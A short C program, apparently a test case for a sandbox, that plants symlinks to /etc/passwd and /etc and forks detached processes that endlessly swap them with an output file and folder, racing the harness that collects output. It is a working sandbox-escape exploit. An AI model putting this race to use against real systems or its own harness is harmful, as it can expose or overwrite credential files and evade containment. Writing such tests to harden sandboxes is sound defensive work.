/* Swaps an output with a link to a file of its box, atomically and without end, while the main process leaves. */
#include "escape.h"

static void make_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT, 0644);
	if (fd == -1 || write(fd, text, strlen(text)) == -1)
		_exit(2);
	close(fd);
}

int main(void)
{
	make_file("output.txt", "honest");
	mkdir("folder", 0755);
	make_file("folder/passwd", "honest");
	if (symlink("/etc/passwd", "link") == -1 || symlink("/etc", "linked-folder") == -1)
		return 2;
	for (int i = 0; i < 4; i++)
		if (fork() == 0) {
			setsid();
			for (;;) {
				renameat2(AT_FDCWD, "link", AT_FDCWD, "output.txt", RENAME_EXCHANGE);
				renameat2(AT_FDCWD, "linked-folder", AT_FDCWD, "folder", RENAME_EXCHANGE);
			}
		}
	usleep(20000);
	say("main leaves\n");
	return 0;
}
